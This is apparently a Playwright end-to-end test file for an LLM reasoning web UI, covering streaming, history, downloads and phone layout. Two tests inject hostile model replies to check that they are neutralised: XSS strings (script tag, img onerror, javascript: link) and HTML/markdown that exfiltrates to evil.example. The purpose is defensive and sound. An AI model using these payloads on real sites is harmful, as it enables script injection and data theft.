"""The web UI end to end in headless Chromium (Debian's package, driven by Playwright).

No browser is downloaded: the tests use /usr/bin/chromium and are skipped when it is missing.
The page is only allowed to reach 127.0.0.1; anything else it asks for is refused.
"""

from __future__ import annotations

import re
import time
from collections.abc import Iterator
from pathlib import Path
from urllib.parse import urlparse

import pytest
from llamaberry_ui.views import mode_name

from llamaberry import modes as registry
from llamaberry.core.settings import Settings
from llamaberry.store import Store
from llamaberry.testing import FakeServer, RecordedRequest, Reply

from .conftest import FIRST_TURN, SYNTHESIS, refine_script
from .test_ui_app import CHAIN, drafting, launched, voting

CHROMIUM = Path("/usr/bin/chromium")
CHROMIUM_ARGS = [
    "--headless=new",
    "--no-sandbox",
    "--disable-gpu",
    "--disable-quic",
    "--no-first-run",
    "--disable-background-networking",
    "--disable-component-update",
    "--disable-sync",
]
KEY = "server-key-51d2e0"
PAGE_KEY = "typed-in-page-9b44c1"
PHONE = {"width": 390, "height": 844}

pytestmark = [
    pytest.mark.browser,
    pytest.mark.skipif(not CHROMIUM.exists(), reason="needs Debian's chromium at /usr/bin"),
]


@pytest.fixture(scope="module")
def fake() -> Iterator[FakeServer]:
    with FakeServer(api_key=KEY) as server:
        yield server


@pytest.fixture(scope="module")
def url(fake: FakeServer, tmp_path_factory) -> Iterator[str]:
    settings = Settings(api_key=KEY, base_url=fake.groq_base_url, max_retries=0)
    store = Store(tmp_path_factory.mktemp("history") / "history.db")
    with launched(settings, history=store) as address:
        yield address


@pytest.fixture(scope="module")
def browser():
    from playwright.sync_api import sync_playwright

    with sync_playwright() as playwright:
        launched_browser = playwright.chromium.launch(
            executable_path=str(CHROMIUM), args=CHROMIUM_ARGS
        )
        yield launched_browser
        launched_browser.close()


@pytest.fixture
def server(fake: FakeServer) -> FakeServer:
    fake.reset()
    fake.reply_with(refine_script)
    return fake


@pytest.fixture
def page(browser, url: str, server: FakeServer):
    context = browser.new_context()

    outside: list[str] = []

    def local_only(route):
        host = urlparse(route.request.url).hostname
        if host == "127.0.0.1":
            route.continue_()
        else:
            outside.append(route.request.url)
            route.abort()

    context.route("**/*", local_only)
    opened = context.new_page()
    opened.outside_requests = outside  # what the page tried to send anywhere else
    opened.set_default_timeout(20_000)
    opened.goto(url)
    opened.wait_for_selector("#refine-q textarea")
    yield opened
    context.close()


def chats(server: FakeServer) -> list[RecordedRequest]:
    """The chat requests the server has had (the page also asks for the model list)."""
    return [r for r in server.requests if r.path.endswith("/chat/completions")]


def ask(page, question: str, tab: str = "refine") -> None:
    page.fill(f"#{tab}-q textarea", question)
    page.click(f"#{tab}-run")


def open_tab(page, name: str) -> None:
    """Click the tab called `name`: every tab is in the tab bar, a phone's too (no "More tabs"
    menu to go through)."""
    page.get_by_role("tab", name=name, exact=True).click()


def tabs() -> dict[str, str]:
    """Every tab of the page, label to the element its panel shows first: the registry's modes
    (the default first, as the page orders them), then Compare and History."""
    order = [registry.DEFAULT_MODE, *(m for m in registry.names() if m != registry.DEFAULT_MODE)]
    return {
        **{mode_name(mode): f"#{mode}-q" for mode in order},
        "Compare": "#compare-q",
        "History": "#history-table",
    }


def section(page, title: str, tab: str = "refine"):
    """The collapsible section of the call titled exactly `title`."""
    return page.locator(f"#{tab}-sections").get_by_text(title, exact=True)


def test_a_question_streams_three_turns_then_the_synthesized_answer_above_them(page):
    ask(page, "How many r in strawberry?")
    answer = page.locator("#refine-answer")
    answer.get_by_text('There are 3 r\'s in "strawberry".').wait_for()
    for title in ("Turn 1", "Turn 2", "Turn 3", "Synthesis"):
        assert section(page, title).is_visible()
    assert answer.bounding_box()["y"] < section(page, "Turn 1").bounding_box()["y"]
    assert page.locator("#refine-summary").inner_text().startswith("Done · ")
    assert "tokens" in page.locator("#refine-sections").inner_text()


def test_stop_during_a_slow_run_stops_it_and_keeps_the_finished_turn(page, server):
    server.reply_with(None)
    server.enqueue(FIRST_TURN, Reply(" ".join(f"slowly{i}" for i in range(300)), chunk_delay=0.05))
    ask(page, "q")
    page.locator("#refine-sections").get_by_text("slowly1 slowly2", exact=False).first.wait_for()
    page.click("#refine-stop")
    section(page, "Turn 2 (stopped)").wait_for()
    assert page.locator("#refine-summary").inner_text().startswith("Stopped")
    assert section(page, "Turn 1").is_visible()
    sent = len(chats(server))
    time.sleep(0.5)
    assert sent == len(chats(server)) == 2
    assert not section(page, "Synthesis").is_visible()


def test_an_earlier_turn_stays_open_and_readable_while_the_next_streams(page, server):
    server.reply_with(None)
    server.enqueue(FIRST_TURN, Reply(" ".join(["later"] * 60), chunk_delay=0.03))
    server.reply_with(refine_script)
    ask(page, "q")
    section(page, "Turn 2").wait_for()
    # Open without a click: the turns are the reasoning the page is there to show.
    first_line = page.locator("#refine-sections").get_by_text("Spell the word", exact=False)
    first_line.wait_for()
    page.locator("#refine-sections").get_by_text("later later later", exact=False).wait_for()
    time.sleep(0.3)  # more tokens of turn 2 arrive meanwhile
    assert first_line.is_visible()
    page.locator("#refine-answer").get_by_text("There are 3").wait_for()


PAYLOAD = (
    "<script>window.__pwned=1</script>\n\n"
    '<img src=x onerror="window.__pwned=2">\n\n'
    "[click me](javascript:window.__pwned=3)\n"
)


def hostile(request: RecordedRequest) -> str:
    """Every reply carries the payload; the synthesis puts it in the answer too."""
    if "## Concise Answer" in (request.user or ""):
        return SYNTHESIS.replace('There are 3 r\'s in "strawberry".', "Answer.\n\n" + PAYLOAD)
    return FIRST_TURN + "\n\n" + PAYLOAD


def test_a_reply_carrying_script_runs_nothing_in_the_page(page, server):
    server.reply_with(hostile)
    page.evaluate("window.__pwned = undefined")
    ask(page, "q")
    page.locator("#refine-summary").get_by_text("Done", exact=False).wait_for()
    section(page, "Turn 1").click()
    page.get_by_text("click me", exact=True).first.wait_for()
    links = "[...document.querySelectorAll('a')].filter(a => a.textContent.trim() === 'click me')"
    hrefs = page.evaluate(f"{links}.map(a => a.getAttribute('href') || '')")
    assert len(hrefs) >= 2  # in the answer box and in the opened turn
    assert not any(href.strip().lower().startswith("javascript:") for href in hrefs)
    page.locator("#refine-answer").get_by_text("click me", exact=True).click()
    page.evaluate(f"{links}.forEach(a => a.click())")
    time.sleep(0.3)
    assert page.evaluate("typeof window.__pwned") == "undefined"
    scripts = page.evaluate(
        "[...document.querySelectorAll('#refine-answer script, #refine-sections script')].length"
    )
    assert scripts == 0
    handlers = page.evaluate("[...document.querySelectorAll('img[onerror]')].length")
    assert handlers == 0


def test_the_model_list_is_filled_from_the_endpoint(page):
    page.get_by_text("Settings", exact=True).click()
    page.locator("input[aria-label='Model']").click()
    page.get_by_role("option", name="qwen/qwen3.6-27b").wait_for()


def test_a_key_typed_in_the_page_is_used_and_not_kept_by_the_browser(page, server):
    server.api_key = PAGE_KEY
    try:
        page.get_by_text("Settings", exact=True).click()
        page.fill("input[type='password']", PAGE_KEY)
        ask(page, "q")
        page.locator("#refine-answer").get_by_text("There are 3").wait_for(timeout=5000)
    finally:
        server.api_key = KEY
    assert {r.headers["authorization"] for r in chats(server)} == {f"Bearer {PAGE_KEY}"}
    stored = page.evaluate(
        "JSON.stringify([Object.entries(localStorage), Object.entries(sessionStorage),"
        " document.cookie])"
    )
    assert PAGE_KEY not in stored
    shown = page.evaluate("document.body.innerText")
    assert PAGE_KEY not in shown


def test_a_finished_run_is_listed_in_the_history_tab(page):
    ask(page, "A question worth keeping")
    page.locator("#refine-answer").get_by_text("There are 3").wait_for()
    page.get_by_role("tab", name="History").click()
    page.get_by_text("A question worth keeping").first.wait_for()


EXFILTRATION = (
    "Result below.\n\n"
    '<form action="http://evil.example/steal" method="get">'
    '<input id="evil-input" name="data" value="secret-from-page" autofocus>'
    '<button id="evil-button">send</button></form>\n\n'
    '<img src="http://evil.example/pixel.png?data=secret-from-img">\n\n'
    "![chart](http://evil.example/md.png?data=secret-from-markdown)\n\n"
    '<iframe src="http://evil.example/frame"></iframe>\n\n'
    '<link rel="stylesheet" href="http://evil.example/s.css">\n\n'
    "<style>@import url(http://evil.example/i.css);</style>\n\n"
    '<video poster="http://evil.example/poster.png"></video>\n'
)


def leaking(request: RecordedRequest) -> str:
    """Every reply, and the synthesized answer, tries to send data to an outside host."""
    if "## Concise Answer" in (request.user or ""):
        return SYNTHESIS.replace('There are 3 r\'s in "strawberry".', EXFILTRATION)
    return FIRST_TURN + "\n\n" + EXFILTRATION


def test_model_output_cannot_make_the_page_send_anything_anywhere(page, server):
    server.reply_with(leaking)
    ask(page, "q")
    page.locator("#refine-summary").get_by_text("Done", exact=False).wait_for()
    for title in ("Turn 1", "Synthesis"):
        section(page, title).click()
    page.locator("#refine-sections").get_by_text("Result below.").first.wait_for()
    page.locator("#refine-answer").get_by_text("Result below.").wait_for()
    time.sleep(1.0)  # give any image, frame or stylesheet time to be fetched
    active = page.evaluate(
        "[...document.querySelectorAll('form, iframe, #evil-input, #evil-button, input[name=data],"
        ' [src*="evil.example"], [action*="evil.example"], [poster*="evil.example"],'
        ' link[href*="evil.example"]\')].map(e => e.outerHTML.slice(0, 80)).concat('
        "[...document.querySelectorAll('style')].filter(e => e.textContent.includes('evil.'))"
        ".map(e => e.outerHTML.slice(0, 80)))"
    )
    assert active == []
    # Enter where the injected input would be, and a click on its button, go nowhere.
    page.locator("#refine-answer").get_by_text("Result below.").click()
    page.keyboard.press("Enter")
    page.locator("#refine-answer").get_by_text("send").first.click()
    time.sleep(0.5)
    assert urlparse(page.url).hostname == "127.0.0.1"
    assert page.outside_requests == []
    # The image is offered as a link the reader may choose to follow; nothing loads by itself.
    assert page.locator("#refine-answer").get_by_text("image: chart").is_visible()


# -- the answer card, progress, compare, downloads, history, phone (#16) ------------------------

COMPREHENSIVE = 'The word "strawberry" contains the letter r three times.'


def test_the_answer_card_shows_the_comprehensive_answer_and_copies_it(browser, url, server):
    context = browser.new_context(permissions=["clipboard-read", "clipboard-write"])
    try:
        page = context.new_page()
        page.set_default_timeout(60_000)
        page.goto(url)
        ask(page, "How many r in strawberry?")
        card = page.locator("#refine-answer")
        card.get_by_text(COMPREHENSIVE).wait_for()
        assert card.get_by_text('There are 3 r\'s in "strawberry".').is_visible()
        card.hover()
        card.get_by_role("button", name="Copy").first.click()
        page.wait_for_function(
            "async (expected) => (await navigator.clipboard.readText()).includes(expected)",
            arg=COMPREHENSIVE,
        )
        # Tokens, seconds and turns beside it; the answer is not also a section.
        summary = page.locator("#refine-summary").inner_text()
        assert "3 turns" in summary and "tokens" in summary and "in all" in summary
    finally:
        context.close()


def test_enter_runs_and_shift_enter_is_a_new_line(page, server):
    box = page.locator("#refine-q textarea")
    box.click()
    box.type("first line")
    page.keyboard.press("Shift+Enter")
    box.type("second line")
    assert box.input_value() == "first line\nsecond line"
    assert chats(server) == []
    page.keyboard.press("Enter")
    page.locator("#refine-answer").get_by_text(COMPREHENSIVE).wait_for()
    assert "first line\nsecond line" in (chats(server)[0].user or "")


def test_elapsed_time_advances_and_the_run_button_is_busy_during_a_run(page, server):
    server.reply_with(None)
    # A first turn that holds its first token back for a while: the clock must move anyway.
    server.enqueue(Reply(FIRST_TURN, latency=4.0))
    server.reply_with(refine_script)
    ask(page, "q")
    summary = page.locator("#refine-summary")
    summary.get_by_text("Turn 1 of 3", exact=False).wait_for()
    page.locator("#refine-run").get_by_text("Running…").wait_for()
    seen = summary.inner_text()
    page.wait_for_function(
        "(before) => {const t = document.querySelector('#refine-summary').innerText;"
        " return t.includes('Turn 1 of 3') && t !== before}",
        arg=seen,
    )
    page.locator("#refine-answer").get_by_text(COMPREHENSIVE).wait_for()
    page.locator("#refine-run").get_by_text("Run", exact=True).wait_for()


def test_compare_shows_whether_the_answers_agree(page, server):
    page.get_by_role("tab", name="Compare").click()
    ask(page, "How many r in strawberry?", tab="compare")
    badge = page.locator("#compare-badge")
    badge.get_by_text("answers", exact=False).wait_for()
    # Single's reply (turn 1's format) says 3, as refine's synthesis does.
    assert "agree" in badge.inner_text()
    assert page.locator("#compare-single-title").inner_text().strip() == "Single answer"
    assert page.locator("#compare-refine-title").inner_text().strip().startswith("Refine · ")
    page.locator("#compare-refine-reasoning").get_by_text("Reasoning").click()
    page.locator("#compare-refine").get_by_text("Spell the word", exact=False).first.wait_for()


def test_compare_keeps_finished_work_after_stop(page, server):
    slow = Reply(" ".join(f"slowly{i}" for i in range(300)), chunk_delay=0.05)

    def crawling_second_turn(request: RecordedRequest) -> str | Reply:
        # Chosen by what is asked, not by arrival order: single and refine's turn 1 race.
        return slow if "## Critique" in (request.user or "") else FIRST_TURN

    # single answers at once; refine's turn 1 finishes, then turn 2 crawls until Stop.
    server.reply_with(crawling_second_turn)
    page.get_by_role("tab", name="Compare").click()
    ask(page, "q", tab="compare")
    page.locator("#compare-refine-answer").get_by_text("slowly1 slowly2", exact=False).wait_for()
    page.click("#compare-stop")
    page.locator("#compare-refine-stats").get_by_text("Stopped", exact=False).wait_for()
    refine = page.locator("#compare-refine-answer").inner_text()
    assert "From Turn 1" in refine and "3" in refine
    assert page.locator("#compare-single-answer").inner_text().strip() != ""


def test_a_run_downloads_as_markdown_and_json(page, server, tmp_path):
    import json

    ask(page, "A question to take away")
    page.locator("#refine-answer").get_by_text(COMPREHENSIVE).wait_for()
    files = {}
    for name in ("md", "json"):
        button = page.locator(f"#refine-download-{name}")
        button.wait_for()
        with page.expect_download() as download:
            button.click()
        path = tmp_path / download.value.suggested_filename
        download.value.save_as(path)
        files[name] = path.read_text()
    assert "A question to take away" in files["md"] and COMPREHENSIVE in files["md"]
    saved = json.loads(files["json"])
    assert saved["question"] == "A question to take away" and len(saved["result"]["turns"]) == 3
    assert KEY not in files["md"] + files["json"]


def test_history_reopens_a_run_with_its_turns(page, server):
    ask(page, "A run to reopen later")
    page.locator("#refine-answer").get_by_text(COMPREHENSIVE).wait_for()
    page.get_by_role("tab", name="History").click()
    page.locator("#history-table").get_by_text("A run to reopen later").first.click()
    page.locator("#history-answer").get_by_text(COMPREHENSIVE).wait_for()
    for title in ("Turn 1", "Turn 2", "Turn 3", "Synthesis"):
        page.locator("#history-sections").get_by_text(title, exact=True).wait_for()
    search = page.locator(".lb-history-filters").get_by_label("Search")
    search.fill("no run says this 7c1f")
    search.press("Enter")
    page.locator("#history-empty").get_by_text("No saved run matches", exact=False).wait_for()


def test_the_page_fits_a_phone_with_the_answer_on_the_first_screen(browser, url, server):
    context = browser.new_context(viewport={"width": 390, "height": 844}, is_mobile=True)
    try:
        page = context.new_page()
        page.set_default_timeout(60_000)
        page.goto(url)
        ask(page, "How many r in strawberry?")
        card = page.locator("#refine-answer")
        card.get_by_text(COMPREHENSIVE).wait_for()
        wider = "document.documentElement.scrollWidth > window.innerWidth"
        assert page.evaluate(wider) is False
        assert card.bounding_box()["y"] < 844  # the answer starts on the first screen
        run = page.locator("#refine-run").bounding_box()
        question = page.locator("#refine-q").bounding_box()
        assert run["y"] > question["y"] + question["height"] - 1  # Run under the question
        for tab in tabs():
            open_tab(page, tab)
            assert page.evaluate(wider) is False, tab
    finally:
        context.close()


# -- every mode of the registry has its tab (#12) -------------------------------------------


def test_the_vote_tab_shows_every_sample_the_tally_and_the_agreement(page, server):
    server.reply_with(voting(["42", "41", "42", "forty-two", "41"], spacing=0.2))
    open_tab(page, "Vote")
    ask(page, "What is six times seven?", tab="vote")
    details = page.locator("#vote-details")
    details.get_by_text("Agreement 60%", exact=False).wait_for()
    assert "3 of 5 answers are 42, a majority, not a consensus." in details.inner_text()
    rows = [" ".join(r.split()) for r in details.locator("tbody tr").all_inner_texts()]
    assert rows == ["42 ✓ ●●● 3", "41 ●● 2"]
    assert page.locator("#vote-answer").inner_text().strip() == "42"
    sections = page.locator("#vote-sections")
    for number in range(1, 6):
        sections.get_by_text(f"Sample {number} · answer ", exact=False).wait_for()
    assert "5 samples · agreement 60%" in page.locator("#vote-summary").inner_text()


def test_the_drafts_tab_shows_each_draft_then_the_synthesised_answer(page, server):
    server.reply_with(drafting)
    open_tab(page, "Drafts")
    ask(page, "How many r in strawberry?", tab="drafts")
    page.locator("#drafts-answer").get_by_text(COMPREHENSIVE).wait_for()
    for title in ("Draft 1", "Draft 2", "Draft 3", "Synthesis"):
        section(page, title, tab="drafts").wait_for()
    assert "3 drafts" in page.locator("#drafts-summary").inner_text()
    section(page, "Draft 2", tab="drafts").click()
    page.locator("#drafts-sections").get_by_text(
        "A draft that counts", exact=False
    ).first.wait_for()


def test_options_the_mode_refuses_are_one_line_in_the_page(page, server):
    open_tab(page, "Steps")
    page.locator("#steps-options").get_by_text("Options").click()
    box = page.locator("#steps-min_steps input[type='number']")
    box.fill("30")
    box.press("Tab")
    # The fold's title says what the run will use.
    folded = page.locator("#steps-options")
    folded.get_by_text("Options · min steps 30, max steps 25", exact=False).wait_for()
    ask(page, "q", tab="steps")
    error = page.locator("#steps-error")
    error.get_by_text("min_steps (30) is larger than max_steps (25).", exact=False).wait_for()
    assert error.inner_text().count("\n") == 0
    assert chats(server) == []


def test_the_reflect_tab_shows_each_reward_beside_its_step(page, server):
    server.reply_with(None)
    server.enqueue(CHAIN)
    open_tab(page, "Reflect")
    ask(page, "How many r's in strawberry?", tab="reflect")
    page.locator("#reflect-details").get_by_text("Final reflection", exact=False).wait_for()
    sections = page.locator("#reflect-sections")
    sections.get_by_text("Step 2 · ▰▰▰▰▰▰▱▱▱▱ reward 0.60 · adjust").wait_for()
    sections.get_by_text("Spelling it out makes the count reliable.").wait_for()
    assert page.locator("#reflect-answer").inner_text().strip() == "3"
    assert "0.60 → 0.90 (answer)" in page.locator("#reflect-details").inner_text()


# -- on a phone, every tab in sight and a History table that reads as words -------------------


@pytest.fixture
def phone(browser, url: str, server: FakeServer):
    context = browser.new_context(viewport=PHONE, is_mobile=True)
    opened = context.new_page()
    opened.set_default_timeout(60_000)
    opened.goto(url)
    opened.wait_for_selector("#refine-q textarea")
    yield opened
    context.close()


def test_on_a_phone_every_tab_is_on_the_first_screen_and_opens_with_one_tap(phone):
    assert not phone.get_by_label("More tabs").is_visible()
    for label in tabs():
        tab = phone.get_by_role("tab", name=label, exact=True)
        assert tab.is_visible(), f"{label} is not in the tab bar"
        box = tab.bounding_box()
        assert box["x"] >= 0 and box["x"] + box["width"] <= PHONE["width"], label
        assert box["y"] >= 0 and box["y"] + box["height"] <= PHONE["height"], label
    for label, first in tabs().items():
        # A click that lands on anything but the tab (a menu over it, say) fails here.
        phone.get_by_role("tab", name=label, exact=True).click()
        assert phone.get_by_role("tab", name=label, exact=True).get_attribute("aria-selected")
        phone.locator(first).first.wait_for()
    assert phone.evaluate("document.documentElement.scrollWidth > window.innerWidth") is False


LINES = """(element) => {
  // How many lines the element's text takes: the line boxes of its text, told apart by top.
  const tops = new Set();
  const walker = document.createTreeWalker(element, NodeFilter.SHOW_TEXT);
  for (let text = walker.nextNode(); text; text = walker.nextNode()) {
    if (!text.textContent.trim()) continue;
    const range = document.createRange();
    range.selectNodeContents(text);
    for (const box of range.getClientRects()) if (box.width > 0) tops.add(Math.round(box.top));
  }
  return tops.size;
}"""


def test_on_a_phone_the_history_table_headers_and_words_are_not_broken(phone):
    ask(phone, "A question to find again on a phone")
    phone.locator("#refine-answer").get_by_text(COMPREHENSIVE).wait_for()
    open_tab(phone, "History")
    table = phone.locator("#history-table")
    table.get_by_text("A question to find again on a phone").locator(
        "visible=true"
    ).first.wait_for()
    headers = table.locator("th .header").locator("visible=true")
    names = [" ".join(name.split()) for name in headers.all_inner_texts()]
    for name in ("mode", "status", "question"):
        assert name in names
    for index, name in enumerate(names):
        assert headers.nth(index).evaluate(LINES) == 1, f"the {name!r} header takes several lines"
    row = table.locator(".virtual-row").locator("visible=true").first
    for cell in row.locator(".body-cell").locator("visible=true").all():
        word = cell.inner_text().strip()
        if word and " " not in word:  # one word, such as the mode or the status: one line
            assert cell.evaluate(LINES) == 1, f"{word!r} is broken over lines"
    assert phone.evaluate("document.documentElement.scrollWidth > window.innerWidth") is False


UNDER_COPY = """(element) => {
  // The text the answer's copy button sits on, if any.
  const button = element.querySelector('.icon-button-wrapper button');
  const b = button.getBoundingClientRect();
  const under = [];
  const walker = document.createTreeWalker(element, NodeFilter.SHOW_TEXT);
  for (let text = walker.nextNode(); text; text = walker.nextNode()) {
    const range = document.createRange();
    range.selectNodeContents(text);
    for (const r of range.getClientRects()) {
      if (r.width > 0 && r.left < b.right && b.left < r.right && r.top < b.bottom && b.top < r.bottom)
        under.push(text.textContent.trim());
    }
  }
  return under;
}"""


def test_on_a_phone_no_copy_button_sits_on_answer_text(phone):
    ask(phone, "How many r in strawberry?")
    phone.locator("#refine-answer").get_by_text(COMPREHENSIVE).wait_for()
    phone.get_by_role("tab", name="Compare", exact=True).click()
    ask(phone, "How many r in strawberry?", tab="compare")
    phone.locator("#compare-badge").get_by_text("answers", exact=False).wait_for()
    for answer in ("#compare-single-answer", "#compare-refine-answer"):
        assert phone.locator(answer).evaluate(UNDER_COPY) == [], answer
    phone.get_by_role("tab", name=mode_name(registry.DEFAULT_MODE), exact=True).click()
    assert phone.locator("#refine-answer").evaluate(UNDER_COPY) == []


# -- what a newcomer sees (#30) ---------------------------------------------------------------


def sent_temperatures(server: FakeServer) -> list[object]:
    """The temperature each chat request carried ("unset" where it carried none)."""
    return [r.body.get("temperature", "unset") for r in chats(server)]


def test_a_run_sends_a_temperature_only_when_the_person_set_one(page, server):
    # The page used to send its slider's 1.0 every time, bypassing vote's 0.8 and the
    # provider's default: page runs were not comparable with the CLI's.
    ask(page, "How many r in strawberry?")
    page.locator("#refine-answer").get_by_text("There are 3 r", exact=False).wait_for()
    assert set(sent_temperatures(server)) == {"unset"}

    server.reset()
    server.reply_with(voting(["42", "42", "42", "42", "42"]))
    open_tab(page, "Vote")
    ask(page, "What is six times seven?", tab="vote")
    page.locator("#vote-details").get_by_text("Agreement", exact=False).wait_for()
    assert set(sent_temperatures(server)) == {0.8}

    server.reset()
    server.reply_with(refine_script)
    page.get_by_text("Settings", exact=True).click()
    temperature = page.get_by_label("Temperature")
    temperature.fill("0.3")
    temperature.press("Tab")  # the box gives its value to the page when it loses focus
    open_tab(page, "Refine")
    ask(page, "How many r in strawberry?")
    deadline = time.monotonic() + 30
    while len(chats(server)) < 4 and time.monotonic() < deadline:
        page.wait_for_timeout(100)  # (not time.sleep: the page's events must be handled)
    assert sent_temperatures(server) == [0.3] * 4


def test_no_command_line_flag_is_named_on_the_page(page, server):
    server.reply_with(None)
    server.enqueue(Reply("cut off mid", finish_reason="length"), FIRST_TURN, FIRST_TURN, SYNTHESIS)
    ask(page, "q")
    page.locator("#refine-summary").get_by_text("Done", exact=False).wait_for()
    sections = page.locator("#refine-sections").inner_text()
    assert "cut off by the token budget" in sections
    assert "--max-tokens" not in sections
    assert not re.search(r"(?<![\w-])--[a-z]", page.locator("body").inner_text())


def test_the_first_screen_puts_examples_by_the_question_and_the_answer_across_the_page(
    page, server
):
    page.set_viewport_size({"width": 1280, "height": 800})
    examples = page.get_by_text("Examples", exact=True).bounding_box()
    assert examples["y"] + examples["height"] < 800  # in sight before anything is asked
    server.reply_with(None)
    server.enqueue(FIRST_TURN, FIRST_TURN, FIRST_TURN, "merged, with no sections at all")
    ask(page, "How many r in strawberry?")
    card = page.locator("#refine-answer")
    card.get_by_text("the synthesis missed the answer format", exact=False).wait_for()
    # The note is on the card, under the answer; the card spans the page, the stats under it.
    box, turns = card.bounding_box(), page.locator("#refine-sections").bounding_box()
    assert box["width"] > 0.9 * turns["width"]
    assert page.locator("#refine-summary").bounding_box()["y"] > box["y"] + box["height"] - 1
    # Nothing between the answer and the reasoning behind it: no examples there.
    assert page.get_by_text("Examples", exact=True).bounding_box()["y"] < box["y"]
    # The turns stay open once done: their reasoning is in sight, not folded away, and the
    # sections grow with them instead of scrolling the first turns out of a box of their own.
    assert (
        page.locator("#refine-sections")
        .get_by_text("Spell the word: s-t-r-a-w-b-e-r-r-y.", exact=False)
        .first.is_visible()
    )
    inner_scroll = """() => [...document.querySelectorAll('#refine-sections *')]
        .some(e => e.scrollHeight > e.clientHeight + 2
                   && ['auto', 'scroll'].includes(getComputedStyle(e).overflowY))"""
    assert page.evaluate(inner_scroll) is False


def box_of(locator, tries: int = 50) -> dict:
    """The element's box. Each streamed piece re-renders a turn's markdown, and an element
    caught in that moment has no box (None): ask again until it has one."""
    for _ in range(tries):
        box = locator.bounding_box()
        if box is not None:
            return box
        locator.page.wait_for_timeout(20)
    raise AssertionError(f"{locator} never had a box")


def test_on_a_phone_the_streaming_turn_comes_into_view_when_a_run_starts(phone, server):
    server.reply_with(None)
    slow = " ".join(f"slowly{i}" for i in range(200))
    server.enqueue(Reply(slow, chunk_delay=0.05))
    ask(phone, "q")
    streaming = phone.locator("#refine-sections").get_by_text("slowly3", exact=False).first
    streaming.wait_for()
    phone.wait_for_timeout(1500)  # the scroll is smooth
    box = box_of(streaming)
    assert 0 <= box["y"] < PHONE["height"] - 40, box
    summary = phone.locator("#refine-summary").bounding_box()
    assert 0 <= summary["y"] < PHONE["height"], summary
    phone.click("#refine-stop")


@pytest.mark.real
def test_an_answer_of_the_demo_model_says_so_on_its_card(browser, local_model, tmp_path):
    settings = Settings.load(provider="local", max_tokens=24)
    with launched(settings, history=False) as address:
        context = browser.new_context()
        try:
            page = context.new_page()
            page.set_default_timeout(240_000)
            page.goto(address)
            open_tab(page, mode_name("single"))
            ask(page, "What is 2 + 2?", tab="single")
            card = page.locator("#single-answer")
            card.get_by_text("A 135M demo model answered", exact=False).wait_for()
            assert "paste a Groq key under Settings" in card.inner_text()
        finally:
            context.close()
